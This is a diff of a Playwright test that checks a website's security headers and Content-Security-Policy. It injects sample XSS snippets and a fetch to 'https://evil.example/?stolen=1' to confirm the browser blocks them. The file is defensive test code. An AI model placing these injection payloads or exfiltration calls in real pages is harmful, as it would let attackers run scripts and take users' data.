@@ -17,7 +17,7 @@ test('every URL is served with the configured headers, and other sites can embed
   const others = ['/nothing-here', '/survey/youth.json', '/.well-known/security.txt'];
   for (const path of [...routes.map((route) => route.path), ...others])
     expect((await request.get(path)).headers(), path).toMatchObject(configured);
-  for (const path of ['/social/home.png', '/icon-512.png', '/favicon.svg']) {
+  for (const path of ['/social/home.png', '/favicon.svg']) {
     const headers = (await request.get(path)).headers();
     expect(headers['cross-origin-resource-policy'], path).toBe('cross-origin');
     expect(headers['x-content-type-options'], path).toBe('nosniff');
@@ -26,51 +26,39 @@ test('every URL is served with the configured headers, and other sites can embed
   }
 });
 
-const evil = 'https://evil.example';
-
 /** What an injection could do, and the directive that blocks it. */
-const injected: [html: string, violation: string][] = [
-  ['<script>window.isBroken = true</script>', 'script-src-elem: inline'],
-  ['<img src="data:," onerror="window.isBroken = true">', 'script-src-attr: inline'],
-  [`<script src="${evil}/a.js"></script>`, `script-src-elem: ${evil}/a.js`],
-  [`<iframe src="${evil}/a"></iframe>`, `frame-src: ${evil}`],
-  [`<img src="${evil}/a.png" alt="">`, `img-src: ${evil}/a.png`],
-  [`<base href="${evil}/">`, `base-uri: ${evil}`],
-  ['<style>body { display: none }</style>', 'style-src-elem: inline'],
-  ['<p style="display: none">a</p>', 'style-src-attr: inline'],
-  [`<object data="${evil}/a.swf"></object>`, `object-src: ${evil}`],
-  [`<form name="evil" action="${evil}/a"></form>`, `form-action: ${evil}/a`],
-];
+const injected = {
+  'script-src-elem': '<script>window.isBroken = true</script>',
+  'script-src-attr': '<img src="data:," onerror="window.isBroken = true">',
+  'style-src-elem': '<style>body { display: none }</style>',
+  'style-src-attr': '<p style="display: none">a</p>',
+  'img-src': '<img src="https://evil.example/a.png" alt="">',
+  'frame-src': '<iframe src="https://evil.example/a"></iframe>',
+};
 
 test('injected code is blocked', async ({ page, pageErrors }) => {
-  const violations: string[] = [];
-  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
-  await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
-      const report = Reflect.get(window, 'reportViolation') as (text: string) => void;
-      report(`${effectiveDirective}: ${blockedURI}`);
-    });
-  });
   await page.route('**/aboutus', async (route) => {
     const response = await route.fetch();
-    const html = injected.map(([piece]) => piece).join('');
+    const html = Object.values(injected).join('');
     const body = (await response.text()).replace('</body>', `${html}</body>`);
     await route.fulfill({ response, body });
   });
-  await page.goto('/aboutus');
-  const outcome = await page.evaluate(async () => {
-    const script = document.createElement('script');
-    script.textContent = 'window.isBroken = true';
-    document.body.append(script);
-    const sent = await fetch('https://evil.example/?stolen=1').then(String, () => 'refused');
-    const isBroken = 'isBroken' in window;
-    // Last, because a page whose form was blocked no longer responds.
-    setTimeout(() => document.forms.namedItem('evil')?.submit());
-    return { sent, isBroken };
+  await page.addInitScript(() => {
+    const violations: string[] = [];
+    Object.assign(window, { violations });
+    document.addEventListener('securitypolicyviolation', (event) =>
+      violations.push(event.effectiveDirective),
+    );
   });
-  expect(outcome).toEqual({ sent: 'refused', isBroken: false });
-  for (const [html, violation] of injected)
-    await expect.poll(() => violations.join('\n'), html).toContain(violation);
-  expect(violations.join('\n')).toContain('connect-src: https://evil.example');
+  await page.goto('/aboutus');
+  const sent = await page.evaluate(() =>
+    fetch('https://evil.example/?stolen=1').then(String, () => 'refused'),
+  );
+  expect(sent).toBe('refused');
+  const violations = () => page.evaluate(() => Reflect.get(window, 'violations') as string[]);
+  await expect
+    .poll(violations)
+    .toEqual(expect.arrayContaining([...Object.keys(injected), 'connect-src']));
+  expect(await page.evaluate(() => 'isBroken' in window)).toBe(false);
   allowErrors(pageErrors);
 });
